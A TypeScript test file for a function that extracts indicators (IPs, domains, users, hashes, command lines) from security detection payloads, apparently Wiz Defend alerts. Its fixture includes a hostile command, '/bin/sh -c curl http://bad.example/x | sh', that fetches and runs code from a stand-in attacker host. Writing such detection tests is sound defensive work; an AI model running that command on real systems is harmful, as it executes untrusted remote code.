import { expect, test } from 'vitest';
import { extractFromBody } from './body.ts';

/** A detection in the shape that Wiz Defend posts. */
const detection = {
  title: 'Reverse shell from container',
  threatURL: "https://app.wiz.io/threats#~(issue~'5f2c)",
  actors: [{ id: 'act-1', externalId: 'AROAEXAMPLE', name: 'shop-role', type: 'SERVICE_ACCOUNT' }],
  resources: [{ id: 'res-1', externalId: 'pod/shop-7', name: 'shop-7', type: 'CONTAINER', nativeType: 'pod' }],
  triggeringEvents: [
    {
      actorIP: '203.0.113.77',
      actorIPMeta: { autonomousSystemNumber: 64500 },
      runtimeDetails: {
        processTree: [
          {
            command: '/bin/sh -c curl http://bad.example/x | sh',
            path: '/bin/sh',
            hash: 'da39a3ee5e6b4b0d3255bfef95601890afd80709',
            username: 'root',
          },
        ],
      },
    },
  ],
};

const lines = (body: unknown) =>
  extractFromBody(body).map(({ type, value, role, source }) => `${type} ${value} ${role} ${source}`);

test('a detection of Wiz, whole', () => {
  expect(lines(detection)).toEqual([
    "url https://app.wiz.io/threats#~(issue~'5f2c) related field",
    'hostname app.wiz.io related text',
    'user aroaexample implicated field',
    'user shop-role implicated field',
    'cloud_resource pod/shop-7 own field',
    'device shop-7 own field',
    'ipv4 203.0.113.77 implicated field',
    'asn AS64500 related field',
    'command_line /bin/sh -c curl http://bad.example/x | sh implicated field',
    'file_path /bin/sh implicated field',
    'url http://bad.example/x implicated text',
    'domain bad.example implicated text',
    'sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 implicated field',
    'user root implicated field',
  ]);
});

test('a posture issue of Wiz gives its resource only', () => {
  const issue = {
    issue: {
      id: '5f2c9a7e-54a6-4f0f-8a43-3a4c7de0f101',
      created: '2026-01-12T08:31:07.112Z',
      projects: 'Retail-Web, PCI, ',
    },
    resource: {
      id: 'arn:aws:ec2:eu-west-1:111122223333:instance/i-0aa11bb22cc33dd44',
      name: 'shop-frontend-7',
      type: 'ec2#instance',
      cloudProviderURL:
        'https://eu-west-1.console.aws.amazon.com/ec2/home#InstanceDetails:instanceId=i-0aa11bb22cc33dd44',
    },
    control: { id: 'wc-id-0042', name: 'Internet-facing VM with a critical vulnerability and admin role' },
  };
  expect(lines(issue)).toEqual([
    'cloud_resource arn:aws:ec2:eu-west-1:111122223333:instance/i-0aa11bb22cc33dd44 own field',
    'device shop-frontend-7 own field',
    'url https://eu-west-1.console.aws.amazon.com/ec2/home#InstanceDetails:instanceId=i-0aa11bb22cc33dd44 related field',
    'hostname eu-west-1.console.aws.amazon.com related text',
  ]);
});

test('none twice: places are collected as JSON pointers and the role that weighs most stays', () => {
  const [found, ...more] = extractFromBody({ resource: { ip: '203.0.113.77' }, 'a/b~c': ['203[.]0[.]113[.]77'] });
  expect(found).toEqual({
    type: 'ipv4',
    value: '203.0.113.77',
    path: '/resource/ip',
    paths: ['/resource/ip', '/a~1b~0c/0'],
    role: 'implicated',
    source: 'field',
  });
  expect(more).toEqual([]);
});

test('roles can be said by the caller', () => {
  const roles = (path: string) => (path === '/a' ? ('victim' as const) : undefined);
  expect(extractFromBody({ a: 'evil.com', b: 'evil.net' }, { roles }).map(({ role }) => role)).toEqual([
    'victim',
    'implicated',
  ]);
});

test.each([
  ['hostname', 'POS-17', 'device POS-17'],
  ['computer_name', 'dc01.corp.local', 'hostname dc01.corp.local'],
  ['userName', 'Bob@Evil.com', 'email bob@evil.com'],
  ['user', 'CORP\\bob', 'user corp\\bob'],
  ['fileName', 'run.me', 'file_name run.me'],
  ['filePath', '/opt/x/run', 'file_path /opt/x/run'],
  ['processName', 'cmd.exe', 'process cmd.exe'],
  ['macAddress', 'AABBCCDDEEFF', 'mac aa:bb:cc:dd:ee:ff'],
  [
    'sha256',
    'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855',
    'sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  ],
])('the field %s', (key, value, expected) => {
  expect(extractFromBody({ [key]: value }).map((found) => `${found.type} ${found.value}`)).toEqual([expected]);
});

test('any value is a body; what is nested too deep is not read', () => {
  expect(lines(null)).toEqual([]);
  expect(lines(7)).toEqual([]);
  expect(lines('evil.com')).toEqual(['domain evil.com implicated field']);
  expect(lines({ constructor: 'x', __proto__: null, user: '' })).toEqual([]);
  const nested = (depth: number) => {
    let body: unknown = 'evil.com';
    for (let i = 0; i < depth; i++) body = [body];
    return body;
  };
  expect(lines(nested(64))).toHaveLength(1);
  expect(lines(nested(65))).toHaveLength(0);
  expect(lines(nested(100_000))).toHaveLength(0);
});
